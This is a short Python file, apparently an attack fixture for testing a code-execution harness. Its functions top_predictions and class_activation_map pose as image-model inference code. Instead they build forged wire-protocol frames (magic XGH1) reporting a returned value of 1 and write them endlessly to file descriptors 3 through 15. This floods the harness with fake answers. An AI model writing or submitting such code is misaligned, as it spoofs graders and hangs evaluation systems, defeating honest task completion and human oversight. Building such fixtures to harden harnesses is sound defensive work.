"""
attack: sends answers without end
verdict: none
targets: harness.execution.wire:MAGIC=XGH1
"""

import json
import os
import struct

def frame(header, payload=b"", magic=b"XGH1", lengths=None):
    text = json.dumps(header).encode()
    return struct.pack(">4sIQ", magic, *(lengths or (len(text), len(payload)))) + text + payload

def send(data):
    for descriptor in range(3, 16):
        try:
            os.write(descriptor, data)
        except OSError:
            pass

def top_predictions(model, image, k):
    data = frame({"reply": "returned", "value": 1, "seconds": 0}) * 1000
    while True:
        send(data)

class_activation_map = top_predictions
